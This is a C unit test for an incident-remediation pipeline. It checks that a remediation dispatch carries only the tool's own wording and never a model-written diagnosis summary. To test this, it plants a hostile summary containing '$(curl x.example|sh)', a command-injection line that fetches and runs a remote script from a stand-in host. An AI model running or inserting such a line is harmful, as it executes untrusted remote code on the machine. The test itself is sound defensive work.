/*
 * Remediation plans: what a dispatch asks the remediation workflow to do, and in whose
 * words (ours: a model's summary is anyone's, and the workflow prints the reason).
 */
#include "common.h"
#include "harness.h"
#include "recorded.h"
#include "core/offline.h"
#include "core/pipeline.h"
#include "core/remediate.h"
#include "util/alloc.h"
#include "util/jsonx.h"

TEST(remediate, a_dispatch_carries_only_our_words)
{
	const char *name = "scenario-6-k8s-pod-crashloop";
	char *alert = xasprintf("incidents/%s/alert.json", name), *logs = xasprintf("incidents/%s/logs.txt", name);
	char *github = xasprintf("incidents/%s/github", name);
	struct pipeline_opts o = {0};
	struct pipeline_github gh;
	struct evidence ev = {0};
	struct incident inc = {0};
	struct diagnosis dx = {0};
	struct plan plan = PLAN_INIT;
	char *inputs;

	o.alert_path = alert;
	o.logs_path = logs;
	recorded_github(&gh, github);
	o.github = &gh;
	o.window_hours = -1;
	o.kb_path = "knowledge-base/incidents.md";
	o.quiet = true;
	ASSERT_OK(pipeline_evidence(&ev, &inc, &o, harness_tmpdir()));
	ASSERT_OK(offline_diagnose(&dx, &ev));
	free(dx.summary);
	dx.summary = xstrdup("Scale out. @acme/admins fixes #1 $(curl x.example|sh) MODEL-WORDS");
	dx.engine = "model";
	ASSERT_OK(remediate_plan(&plan, &ev, &dx));
	ASSERT(plan.dispatch != NULL);
	inputs = json_dumps(json_object_get(plan.dispatch, "inputs"), JSON_COMPACT);
	ASSERT_NOT_CONTAINS(inputs, "MODEL-WORDS");
	ASSERT_CONTAINS(jsonx_str(plan.dispatch, "inputs.reason"), inc.id);
	ASSERT_CONTAINS(jsonx_str(plan.dispatch, "inputs.reason"), "model diagnosis, confidence ");
	free(inputs);
	plan_release(&plan);
	diagnosis_release(&dx);
	github_free(ev.gh);
	evidence_release(&ev);
	incident_release(&inc);
	free(alert);
	free(logs);
	free(github);
}
